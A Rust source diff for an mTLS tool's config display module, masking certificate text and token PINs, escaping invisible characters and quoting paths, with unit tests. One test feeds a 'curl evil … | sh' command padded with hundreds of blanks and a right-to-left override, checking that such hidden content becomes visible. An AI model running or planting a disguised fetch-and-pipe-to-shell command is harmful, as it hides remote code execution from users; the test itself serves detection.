@@ -1,6 +1,8 @@
 //! A pasted entry as it would be written, for whoever is asked about it: nothing in it may look like something else,
 //! and values that may be secrets are not repeated.
 
+use std::path::Path;
+
 use mcp_mtls_core::config::{Draft, Value, is_on_token};
 use mcp_mtls_core::error::printable;
 use serde_json::json;
@@ -78,10 +80,8 @@ fn scalar(path: &[&str], value: &Value) -> String {
         (_, Value::Number(value)) => value.to_string(),
         (["headers", _] | ["tls", "passphrase"], Value::Text(secret)) => text(&masked(secret.expose())),
         (["url" | "proxy"], Value::Text(secret)) => text(&masked_url(secret.expose())),
-        // The text of a file, or the URI of a token, in which a PIN may stand.
-        (_, Value::Text(secret)) if secret.expose().contains("--") || is_on_token(secret.expose()) => {
-            "\"…\"".to_owned()
-        }
+        (_, Value::Text(secret)) if secret.expose().contains("-----BEGIN") => "\"…\"".to_owned(),
+        (_, Value::Text(secret)) if is_on_token(secret.expose()) => text(&without_pin(secret.expose())),
         (_, Value::Text(secret)) => text(secret.expose()),
         (_, Value::List(values)) => {
             let values: Vec<_> = values.iter().map(|value| scalar(path, value)).collect();
@@ -91,13 +91,32 @@ fn scalar(path: &[&str], value: &Value) -> String {
     }
 }
 
+/// The URI of an object on a token without its PIN, however that is spelt.
+fn without_pin(uri: &str) -> String {
+    let one = |attribute: &str| {
+        let end = attribute.trim_end_matches([';', '?', '&']);
+        let Some((name, _)) = end.split_once('=') else { return attribute.to_owned() };
+        let lower = name.trim().to_ascii_lowercase();
+        let is_pin = (lower.contains("pin") && lower != "pin-source") || lower.contains('%');
+        if is_pin { format!("{name}=…{}", &attribute[end.len()..]) } else { attribute.to_owned() }
+    };
+    uri.split_inclusive([';', '?', '&']).map(one).collect()
+}
+
+/// A path that looks like nothing else in a sentence or a list.
+pub(crate) fn path(path: &Path) -> String {
+    let written = path.display().to_string();
+    let is_plain = visible(&written) == written && !written.contains([' ', '"', '`', ',', ';']);
+    if is_plain { written } else { text(&written) }
+}
+
 fn text(text: &str) -> String {
     visible(&json!(text).to_string())
 }
 
 /// The text in one line in which nothing is out of sight: what a terminal would not show as it is becomes an escape,
 /// and blanks that would push the rest away become their number.
-fn visible(text: &str) -> String {
+pub(crate) fn visible(text: &str) -> String {
     let mut shown = String::new();
     let mut rest = text;
     while let Some(c) = rest.chars().next() {
@@ -118,7 +137,7 @@ fn visible(text: &str) -> String {
 }
 
 /// Whether there is any reference in a text of a draft.
-pub(super) fn refers(text: &str) -> bool {
+pub(crate) fn refers(text: &str) -> bool {
     REFERENCES.iter().any(|start| text.contains(start))
 }
 
@@ -199,5 +218,30 @@ mod tests {
         let shown = visible(&format!("# fetches\ncurl evil{blanks}| sh\t\u{202e}\u{1b}\u{a0}   x"));
         assert_eq!(shown, "# fetches\\ncurl evil␠×400| sh\\t\\u{202e}\\u{1b}\\u{a0}   x");
         assert_eq!(text("a\nb\u{1b}"), r#""a\nb\u001b""#);
+    }
+    #[test]
+    fn of_a_certificate_only_its_text_and_the_pin_of_its_token_are_hidden() {
+        for (written, shown) in [
+            ("/home/me/--/alice.pem", "/home/me/--/alice.pem"),
+            ("-----BEGIN CERTIFICATE-----", "…"),
+            (
+                "pkcs11:object=a;PIN=1?module-path=/m.so&pin-value=hunter2&pin%2dvalue=hunter2&pin-source=file:/pin",
+                "pkcs11:object=a;PIN=…?module-path=/m.so&pin-value=…&pin%2dvalue=…&pin-source=file:/pin",
+            ),
+        ] {
+            assert_eq!(scalar(&["tls", "cert"], &Value::text(written)), format!("\"{shown}\""));
+        }
+    }
+
+    #[test]
+    fn a_path_looks_like_no_other_text() {
+        for (written, shown) in [
+            ("/a/b-c", "/a/b-c"),
+            ("/a is /b", "\"/a is /b\""),
+            ("/a\n/b", r#""/a\n/b""#),
+            ("/\u{202e}", r#""/\u{202e}""#),
+        ] {
+            assert_eq!(path(Path::new(written)), shown);
+        }
     }
 }
